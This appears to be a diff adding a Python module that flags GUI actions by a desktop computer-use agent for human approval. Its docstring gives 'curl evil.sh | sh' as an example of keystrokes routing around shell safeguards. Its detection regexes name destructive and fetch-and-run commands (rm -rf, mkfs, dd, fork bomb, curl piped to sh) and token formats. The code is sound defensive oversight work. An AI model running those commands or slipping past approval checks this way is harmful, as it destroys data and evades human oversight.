@@ -1,0 +1,116 @@
+"""Risk rules for GUI actions: which computer-action batches a person approves before they run.
+
+The shell tool has its own rules (`agent.cli.risk_reason`); keystrokes route around them ("open a
+terminal, type `curl evil.sh | sh`"), so a batch is checked here too. Pragmatic: closing a window
+(alt+F4) or saving is normal work and runs; ending the session, switching to a text console,
+opening a terminal or run dialog, typing secrets, typing dangerous shell commands where a shell may
+read them, and typing Deskhand's own token or data paths go to a person.
+"""
+from __future__ import annotations
+
+import re
+
+from agent.keys import UnknownKey, map_keys
+
+# Combinations as sets of pyautogui key names (left/right variants folded).
+_RISKY_COMBOS = [
+    ({"ctrl", "alt", "delete"}, "ends or locks the session (ctrl+alt+delete)"),
+    ({"ctrl", "alt", "backspace"}, "kills the graphical session (ctrl+alt+backspace)"),
+    ({"ctrl", "alt", "t"}, "opens a terminal"),
+    ({"win", "r"}, "opens a run dialog"),
+    ({"alt", "f2"}, "opens a run dialog"),
+    ({"win", "l"}, "locks the screen"),
+    ({"ctrl", "alt", "end"}, "ends the remote session"),
+]
+_CONSOLE = re.compile(r"^f([1-9]|1[0-2])$")   # ctrl+alt+F1..F12 switch to a text console
+
+_SECRETS = [
+    (re.compile(r"sk-[A-Za-z0-9_\-]{16,}"), "an API key (sk-…)"),
+    (re.compile(r"eyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]+"), "a token (JWT)"),
+    (re.compile(r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----"), "a private key"),
+    (re.compile(r"\bAKIA[0-9A-Z]{16}\b"), "an AWS access key"),
+    (re.compile(r"\bgh[pousr]_[A-Za-z0-9]{30,}\b"), "a GitHub token"),
+]
+_SHELL_DANGER = re.compile(
+    r"(^|[;&|(`$]\s*|\s)(sudo|su|doas|pkexec)(\s|$)"
+    r"|\brm\s+(-[a-zA-Z]*[rRf][a-zA-Z]*\s+)+"
+    r"|\bmkfs(\.\w+)?\b|\bdd\b[^\n]*\bof=|\bshred\b|\bwipefs\b"
+    r"|\b(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b"
+    r"|:\(\)\s*\{\s*:\|:&\s*\};:"
+    r"|\bchmod\s+(-R\s+)?[0-7]*777\s+/"
+    r"|\b(shutdown|reboot|poweroff|halt)\b|\bkillall\b|\bpkill\b"
+    r"|>\s*/dev/sd[a-z]")
+_TERMINALS = re.compile(r"term|konsole|tilix|alacritty|kitty|urxvt|rxvt|terminator|guake|tilda|yakuake|wezterm|"
+                        r"foot|st-256color|powershell|cmd\.exe|command prompt|iterm|\bbash\b|\bzsh\b|\bsh\b|"
+                        r"run application|^run$", re.I)
+
+
+def _fold(key: str) -> str:
+    return re.sub(r"(left|right)$", "", key) if key not in ("left", "right") else key
+
+
+def combo_reason(keys) -> str | None:
+    try:
+        names = {_fold(k) for k in map_keys(keys)}
+    except UnknownKey:
+        return None   # the batch fails on it before anything is pressed
+    for combo, reason in _RISKY_COMBOS:
+        if combo <= names and len(names) == len(combo):
+            return reason
+    if {"ctrl", "alt"} <= names and any(_CONSOLE.match(n) for n in names):
+        return "switches to a text console"
+    return None
+
+
+def secret_reason(text: str) -> str | None:
+    for pattern, what in _SECRETS:
+        if pattern.search(text):
+            return f"types what looks like {what}"
+    return None
+
+
+def looks_like_terminal(window: dict | None) -> bool:
+    if not window:
+        return False
+    return bool(_TERMINALS.search(f"{window.get('app') or ''} {window.get('title') or ''}"))
+
+
+def gui_risk(actions: list[dict], *, windows: list[dict] | None, protected=()) -> list[str]:
+    """Why a person must approve this batch first (empty: it may run).
+
+    `windows` is the window list before the batch (None when unknown). Typed text counts as going
+    to a terminal when the focused window is one, when the windows are unknown, or when an earlier
+    action in the batch may have moved the focus while a terminal is on screen.
+    """
+    reasons: list[str] = []
+    focused = next((w for w in windows or [] if w.get("focused")), None)
+    terminal_on_screen = any(looks_like_terminal(w) for w in windows or [])
+    focus_may_move = False
+    for action in actions:
+        if not isinstance(action, dict):
+            continue
+        kind = action.get("type")
+        keys = action.get("keys") or []
+        if keys:
+            why = combo_reason(keys)
+            if why:
+                reasons.append(why)
+        if kind in ("click", "double_click", "keypress", "drag"):
+            focus_may_move = True
+        if kind != "type":
+            continue
+        text = str(action.get("text") or "")
+        for value in protected or ():
+            if value and str(value) in text:
+                reasons.append("types Deskhand's own token or data path")
+                break
+        why = secret_reason(text)
+        if why:
+            reasons.append(why)
+        shell_may_read = (windows is None or looks_like_terminal(focused)
+                          or (focus_may_move and terminal_on_screen) or any("terminal" in r or "run dialog" in r
+                                                                             for r in reasons))
+        if shell_may_read and _SHELL_DANGER.search(text):
+            reasons.append("types a dangerous shell command (sudo, rm -r/-f, mkfs, dd of=, …) where a shell may "
+                           "run it")
+    return list(dict.fromkeys(reasons))
